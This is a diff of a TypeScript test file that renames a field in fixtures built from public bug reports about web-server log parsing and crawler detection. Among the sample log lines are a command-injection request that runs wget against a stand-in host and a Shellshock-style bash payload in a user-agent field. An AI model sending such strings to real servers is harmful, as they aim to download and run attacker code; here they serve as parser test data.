@@ -1,6 +1,6 @@
 /**
  * Inputs of public bug reports about products that do this job, rebuilt with documentation addresses: each is read
- * right, or refused, or counted. `before` says what this product made of it when the report was found.
+ * right, or refused, or counted. `earlierReading` says what this product made of it when the report was found.
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import { detectAgent } from '../../sdk/agents/detect-agent.ts'
@@ -23,7 +23,7 @@ const wasRight = 'read right'
 
 interface LogReport {
   source: string
-  before: string
+  earlierReading: string
   lines: string[]
   trustedProxies?: string[]
   /** Verdicts of the agents' requests and kinds of the other lines; null: refused, with a sentence. */
@@ -52,7 +52,7 @@ const iis = (peer: string, forwarded: string): string =>
 const logs: LogReport[] = [
   {
     source: 'https://github.com/allinurl/goaccess/issues/218',
-    before: 'refused; a client that asked for an address as host was verified by that address',
+    earlierReading: 'refused; a client that asked for an address as host was verified by that address',
     lines: [
       `${published} shop.example - [${when}] ${request}`,
       `${elsewhere} b.example - [${when}] ${request}`,
@@ -62,7 +62,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/traefik/traefik/issues/11722',
-    before: 'the user agent ended at the quote, without a word',
+    earlierReading: 'the user agent ended at the quote, without a word',
     lines: [
       `${elsewhere} - - [${when}] "GET / HTTP/2.0" 200 659 "-" "${gptBot}" 115 "a@file" "http://127.0.0.1:3001" 1ms`,
       `${elsewhere} - - [${when}] "GET / HTTP/2.0" 200 659 "-" "foo " bar" 116 "a@file" "http://127.0.0.1:3001" 1ms`,
@@ -71,7 +71,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/traefik/traefik/issues/6481',
-    before: 'in a log of Traefik, the lines of pings were bad',
+    earlierReading: 'in a log of Traefik, the lines of pings were bad',
     lines: [
       `${published} - - [${when}] ${request} 1 "shop@docker" "http://172.18.0.2:80" 3ms`,
       `${published} - - [${when}] ${request} 2 "ping@internal" - 0ms`,
@@ -80,7 +80,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/traefik/traefik/issues/2649',
-    before: 'read without its user agent, so that no agent was found',
+    earlierReading: 'read without its user agent, so that no agent was found',
     lines: [
       `${published} - - [${when}] "GET / HTTP/1.1" 200 5 - "${gptBot}" 5 "shop" "http://172.18.0.2:80" 3ms`,
     ],
@@ -88,7 +88,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/elastic/logstash/issues/7779',
-    before: 'refused: JSON of nginx without escape=json',
+    earlierReading: 'refused: JSON of nginx without escape=json',
     lines: [
       `{"@timestamp":"2026-11-05T10:00:00+08:00","clientip":"${published}","request":"POST /c HTTP/1.1",` +
         `"http_user_agent":"${gptBot} \\xC3\\xA3\\x22 \\x5C","size":7513,"http_host":"shop.example","status":"200"}`,
@@ -98,16 +98,17 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/matomo-org/matomo-log-analytics/issues/16',
-    before: 'the lines with an umlaut were bad',
+    earlierReading: 'the lines with an umlaut were bad',
     lines: [
       `{"ip": "${published}","path": "/a","status": "200","user_agent": "${gptBot}","date": "2026-11-05T10:00:00Z"}`,
-      `{"ip": "${published}","path": "/a","status": "200","user_agent": "GPTBot/1 F\\xFA","date": "2026-11-05T10:00:00Z"}`,
+      `{"ip": "${published}","path": "/a","status": "200","user_agent": "GPTBot/1 F\\xFA",` +
+        '"date": "2026-11-05T10:00:00Z"}',
     ],
     reading: ['verified', 'verified'],
   },
   {
     source: 'https://github.com/freeunitorg/freeunit/pull/196',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [
       `{"time":"2026-11-05T10:00:00Z","request":"GET / HTTP/1.1","status":200,"remote_addr":"${published}",` +
         `"user_agent":"${gptBot} \xff","referer":"\xfe"}`,
@@ -116,39 +117,39 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2717',
-    before: 'the duration before the address was stored as the host',
+    earlierReading: 'the duration before the address was stored as the host',
     lines: [`336 ${published} - - [${when}] ${request} "10.1.232.31" "shop.example"`],
     reading: ['verified'],
     host: '',
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2117',
-    before: 'the quote around the line was stored with the host, and the size was lost',
+    earlierReading: 'the quote around the line was stored with the host, and the size was lost',
     lines: [`"shop.example ${published} - - [${when}] "GET / HTTP/2" 200 10540 "-" "${gptBot}""`],
     reading: ['verified'],
     host: 'shop.example',
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2198',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [`"${published} - - [${when}] ${request}"`],
     reading: ['verified'],
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2232',
-    before: 'read as a log without user agents, whose requests got no response',
+    earlierReading: 'read as a log without user agents, whose requests got no response',
     lines: [`${published} - - [${when}] "GET https://a.example/b HTTP/2.0" "-" "${gptBot}"`],
     reading: null,
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/1066',
-    before: 'read as a log without user agents and without requests',
+    earlierReading: 'read as a log without user agents and without requests',
     lines: [`${published} - - [2026-11-05T10:00:00+00:00] "localhost" ${request} 0.038`],
     reading: null,
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2814',
-    before: 'a word of the tunnel was read as X-Forwarded-For',
+    earlierReading: 'a word of the tunnel was read as X-Forwarded-For',
     lines: [
       caddy({ remote_ip: published }),
       caddy({ remote_ip: 'ziti-edge-router connId=2147483679, logical=ziti', client_ip: '' }),
@@ -157,14 +158,14 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/crowdsecurity/hub/issues/995',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [caddy({ remote_ip: published, remote_port: '10251', proto: 'HTTP/1.1' })],
     reading: ['verified'],
     host: 'shop.example',
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/1116',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [
       `${published} - [${published}] - - [${when}] ${request} 563 0.102 [up] 10.4.34.8:80 39615 0.102 200`,
     ],
@@ -172,45 +173,45 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2310',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [`\u001b[0;33;1mnginx.1     | \u001b[0mshop.example ${published} - - [${when}] ${request}`],
     reading: ['verified'],
     host: 'shop.example',
   },
   {
     source: 'https://github.com/allinurl/goaccess/issues/2735',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [iisFields, iis('172.18.23.68', `${published}:33453,+172.16.0.1:49770`)],
     trustedProxies: ['172.16.0.0/12'],
     reading: ['note', 'verified'],
   },
   {
     source: 'https://github.com/elastic/beats/issues/34642',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [iisFields, iis('172.20.98.22', `${published},${elsewhere}`)],
     trustedProxies: ['172.16.0.0/12'],
     reading: ['note', 'contradicted'],
   },
   {
     source: 'https://github.com/elastic/integrations/issues/5206',
-    before: `${wasRight}: what stands before the address is no address, so nothing is proved`,
+    earlierReading: `${wasRight}: what stands before the address is no address, so nothing is proved`,
     lines: [iisFields, iis('192.168.1.1', `\\${published}`)],
     trustedProxies: ['192.168.0.0/16'],
     reading: ['note', 'unverifiable'],
   },
   {
     source: 'https://github.com/elastic/integrations/issues/3491',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [
       `http 2026-11-05T10:00:00.051646Z app/lb/30 ${published}:41542 - -1 -1 -1 301 - 233 390 ` +
-        `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "${gptBot}" - - - "Root=1-6" "-" "-" 0 ` +
-        '2026-11-05T10:00:00.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
+        `"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "${gptBot}" - - - "Root=1-6" ` +
+        '"-" "-" 0 2026-11-05T10:00:00.051000Z "redirect" "https://127.0.0.1:443/" "-" "-" "-" "Acceptable" "SpaceInUri"',
     ],
     reading: ['verified'],
   },
   {
     source: 'https://github.com/awslabs/athena-glue-service-logs/pull/3',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [
       `2026-11-05T10:00:00.132252Z lb ${published}:44444 10.2.3.1:80 0.000048 0.000504 0.000025 301 301 0 178 ` +
         `"GET http://10.2.2.4:80/ HTTP/1.0" "\\"${gptBot}\\"" - -`,
@@ -219,7 +220,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/vozlt/nginx-module-vts/issues/328',
-    before: wasRight,
+    earlierReading: wasRight,
     lines: [
       `${elsewhere} - ${published} [${when}] "GET / HTTP/1.1" 444 0 "-" "() { :; }; bash -c \\x22a\\x22 # ${gptBot}"`,
     ],
@@ -227,7 +228,7 @@ const logs: LogReport[] = [
   },
   {
     source: 'https://github.com/elastic/integrations/issues/6219',
-    before: 'refused, as now: the log of CloudFront in real time has no line that names its fields',
+    earlierReading: 'refused, as now: the log of CloudFront in real time has no line that names its fields',
     lines: [`1793872800.937\t${published}\t0.332\t403\t347\tGET\thttps\ta.example\t/\t50\tARN1-C1\tuou6`],
     reading: null,
   },
